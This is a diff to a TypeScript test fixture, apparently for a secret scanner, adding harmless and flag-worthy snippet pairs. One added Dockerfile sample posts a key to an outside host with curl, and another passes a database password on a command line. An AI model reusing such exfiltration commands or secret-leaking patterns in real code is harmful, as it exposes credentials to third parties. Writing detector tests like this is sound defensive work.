@@ -40,6 +40,9 @@ const PAIRS: readonly (readonly [what: string, file: string, quiet: string, loud
   ['the sample of a second factor, prolonged', 'a.json', '{"totp": "JBSWY3DPEHPK3PXPJBSWY3DPEHPK3PXP", "other": {"totp": "JBSWY3DPEHPK3PXPGHE"}}', '{"totp": "OZXW2ZLOMRXW6ZDFQ7RM"}'],
   ['a name run together', 'values.yml', 'signed_url:\n  secret_key: SOMELONGSECRETKEY\n', 'signed_url:\n  secret_key: SOMWLQNGSXCRZTKVY7\n'],
   ['by what etcd tells clusters apart', 'values.yml', `env:\n  ETCD_INITIAL_CLUSTER_TOKEN: ${RANDOM}\n`, `env:\n  ETCD_CLUSTER_TOKEN: ${RANDOM}\n`],
+  ['the variable from which an option is read', 'a.py', "@click.option('--db-password', envvar='DB_PASSWORD', required=True)", `run(['mysql', '--db-password', '${RANDOM}'])`],
+  ['the fingerprint of a public key', 'Dockerfile', "RUN key='859BE8D7C586F538430B19C2467B942D3A79BD29'; gpg --batch --recv-keys \"$key\"\n", "RUN key='859BE8D7C586F538430B19C2467B942D3A79BD29'; curl -d \"$key\" https://a.shop.net\n"],
+  ['the lock of a page', 'a.html', '<p>If: (&lt;opaquelocktoken:e71d4fae-5dec-22d6-fea5-00a0c91e6be4&gt;)</p>', '<p>token:e71d4fae-5dec-22d6-fea5-00a0c91e6be4</p>'],
 ];
 
 /** The text with a secret behind it that is found, so that it is not the first look at the file which turns it away. */
